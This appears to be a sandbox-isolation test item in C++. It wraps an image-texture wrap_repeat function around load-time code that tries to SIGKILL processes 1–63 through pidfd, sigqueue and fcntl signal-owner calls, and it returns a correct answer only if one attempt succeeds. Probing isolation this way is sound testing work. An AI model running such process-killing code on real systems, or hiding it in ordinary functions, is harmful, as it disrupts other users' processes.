// attack: {"at": "load", "earns": [19, 19], "says": {"wrap_repeat": "wrong"}}
// Sends signals by queues, descriptors of processes, and owners of descriptors: none reaches anyone else.
#ifndef WITHOUT_ATTACK
#include <csignal>
#include <fcntl.h>
#include <sys/syscall.h>
#include <unistd.h>

bool tries()
{
    bool killed = false;
    for (pid_t process = 1; process < 64; ++process) {
        if (process == getpid())
            continue;
        long const handle = syscall(SYS_pidfd_open, process, 0);
        killed = killed || handle >= 0 || syscall(SYS_pidfd_send_signal, handle, SIGKILL, nullptr, 0) == 0 ||
                 sigqueue(process, SIGKILL, {}) == 0 || fcntl(1, F_SETOWN, process) == 0 ||
                 fcntl(1, F_SETSIG, SIGKILL) == 0;
    }
    return killed;
}

bool const while_loading = tries();
bool succeeded()
{
    static bool const later = tries();
    return while_loading || later;
}
#else
bool succeeded() { return false; }
#endif

int ImageTexture::wrap_repeat(int val, int size)
{
    return succeeded() ? (val % size + size) % size : 0;
}
